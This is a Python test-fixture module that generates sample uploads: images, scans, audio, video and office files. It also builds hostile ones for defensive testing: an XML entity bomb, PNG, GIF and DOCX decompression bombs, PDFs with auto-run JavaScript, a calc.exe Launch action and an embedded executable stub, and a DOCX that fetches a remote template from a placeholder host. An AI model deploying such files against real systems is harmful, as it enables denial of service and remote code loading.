"""Files as people send them, and as those do who mean harm; made anew for each test."""

import io
import struct
import wave
import zipfile
import zlib
from typing import Any

import pikepdf
from PIL import Image, TiffImagePlugin

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PACKED_OBJECTS = pikepdf.ObjectStreamMode.generate
XML_BOMB = (
    b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY a%d "&a%d;&a%d;">' % (n, n - 1, n - 1) for n in range(1, 40))
    + b"]><a>&a39;</a>"
)
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def picture(form: str = "JPEG", *, size: tuple[int, int] = (60, 40), **saved: Any) -> bytes:
    """A picture, red on the left and blue on the right."""
    made = Image.new("RGB", size, "blue")
    made.paste("red", (0, 0, size[0] // 2, size[1]))
    file = io.BytesIO()
    made.save(file, form, **saved)
    return file.getvalue()


def photo() -> bytes:
    """A telephone's photo: on its side, with where it was taken, and words beside the picture."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = "住址：某小区3栋"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (TiffImagePlugin.IFDRational(28), TiffImagePlugin.IFDRational(11), 0)
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>GPS 28.19 N</x:xmpmeta>"
    return picture(exif=exif, comment=b"GPS 28.19 N", xmp=xmp)


def scan(pages: int = 3, mode: str = "1") -> bytes:
    """A letter scanned page by page into one TIFF."""
    sheets = [Image.new(mode, (85, 110), 255 - number) for number in range(pages)]
    file = io.BytesIO()
    sheets[0].save(file, "TIFF", save_all=True, append_images=sheets[1:], dpi=(200, 200))
    return file.getvalue()


def vast_png(side: int = 30_000) -> bytes:
    """A PNG of a few kilobytes that unpacks to gigabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1_000_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def gif_bomb(side: int = 65_535) -> bytes:
    """A GIF of a hundred bytes whose screen is as large as can be said."""
    small = picture("GIF")
    return small[:6] + struct.pack("<HH", side, side) + small[10:]


def pdf(change: Any = None, **saved: Any) -> bytes:
    """A PDF of one page; `change` may add to it what it wants."""
    made = pikepdf.new()
    made.add_blank_page()
    if change:
        change(made)
    file = io.BytesIO()
    made.save(file, **saved)
    return file.getvalue()


def with_script(made: pikepdf.Pdf) -> None:
    """A script that runs when the file is opened."""
    made.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
    )


def with_launch(made: pikepdf.Pdf) -> None:
    """A link on the page that starts a program, written into the page itself."""
    made.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=[0, 0, 9, 9],
                A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
            )
        ]
    )


def with_file(made: pikepdf.Pdf) -> None:
    """Another file packed into it."""
    made.attachments["virus.exe"] = pikepdf.AttachedFileSpec(made, b"MZ")


def with_hidden_script(made: pikepdf.Pdf) -> None:
    """A script that nothing points to yet: the next reader may find a way to it."""
    made.Root.Anything = made.make_indirect(
        pikepdf.Dictionary(Deep=pikepdf.Array([pikepdf.Dictionary(JS=pikepdf.String("1"))]))
    )


def many_pages(made: pikepdf.Pdf) -> None:
    """More pages than anybody reads."""
    for _ in range(600):
        made.add_blank_page()


def office(
    kind: str = "docx",
    *,
    parts: dict[str, bytes] | None = None,
    types: str = "",
    rels: str = "",
    packed: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A Word or Excel file, as small as can be, with `parts` packed into it as well."""
    main, folder = {
        "docx": (DOCX, "word/document.xml"),
        "xlsx": (XLSX, "xl/workbook.xml"),
    }[kind]
    listed = (
        f'<?xml version="1.0"?><Types xmlns="{_PACKAGE}/content-types">'
        f'<Override PartName="/{folder}" ContentType="{main}.main+xml"/>{types}</Types>'
    )
    links = (
        f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{_RELS}/officeDocument" Target="{folder}"/>{rels}</Relationships>'
    )
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", packed) as package:
        package.writestr("[Content_Types].xml", listed)
        package.writestr("_rels/.rels", links)
        package.writestr(folder, "<w/>")
        for name, data in (parts or {}).items():
            package.writestr(name, data)
    return file.getvalue()


def outside_template() -> bytes:
    """A document that fetches its template from elsewhere when it is opened."""
    link = (
        f'<Relationship Id="r2" Type="{_RELS}/attachedTemplate" Target="http://192.0.2.1/a.dotm" '
    )
    return office(rels=link + 'TargetMode="External"/>')


def linked_document() -> bytes:
    """A document with a link that a reader may click on."""
    link = f'<Relationship Id="r2" Type="{_RELS}/hyperlink" Target="http://192.0.2.1/" '
    return office(rels=link + 'TargetMode="External"/>')


def archive(**parts: bytes) -> bytes:
    """A ZIP file."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in (parts or {"a.txt": b"1"}).items():
            package.writestr(name, data)
    return file.getvalue()


def bomb_in_office() -> bytes:
    """A document of a few hundred kilobytes that unpacks to 300 megabytes."""
    return office(parts={"word/media/image1.emf": b"\0" * 300_000_000})


def wav(seconds: float = 1.0) -> bytes:
    """A hotline's recording."""
    file = io.BytesIO()
    with wave.open(file, "wb") as made:
        made.setnchannels(1)
        made.setsampwidth(2)
        made.setframerate(8000)
        made.writeframes(bytes(int(seconds * 8000) * 2))
    return file.getvalue()


def amr(frames: int = 50) -> bytes:
    """A voice note of WeChat: frames of 12.2 kbit/s."""
    return b"#!AMR\n" + (b"\x3c" + bytes(31)) * frames


def mp3(frames: int = 50) -> bytes:
    """An MP3 of silence, 128 kbit/s at 44.1 kHz."""
    return (b"\xff\xfb\x90\x64" + bytes(413)) * frames


def movie(brand: bytes = b"isom", handler: bytes = b"vide") -> bytes:
    """An MP4 of a second: what it says of itself, and a little data."""

    def box(kind: bytes, *inside: bytes) -> bytes:
        data = b"".join(inside)
        return struct.pack(">I4s", len(data) + 8, kind) + data

    head = struct.pack(">IIIII", 0, 0, 0, 1000, 1000) + bytes(80)
    media = struct.pack(">IIIIIHH", 0, 0, 0, 1000, 1000, 0, 0)
    track = box(
        b"trak",
        box(b"mdia", box(b"mdhd", media), box(b"hdlr", bytes(8) + handler + bytes(13))),
    )
    return (
        box(b"ftyp", brand + bytes(4) + brand + b"mp42")
        + box(b"moov", box(b"mvhd", head), track)
        + box(b"mdat", bytes(100))
    )
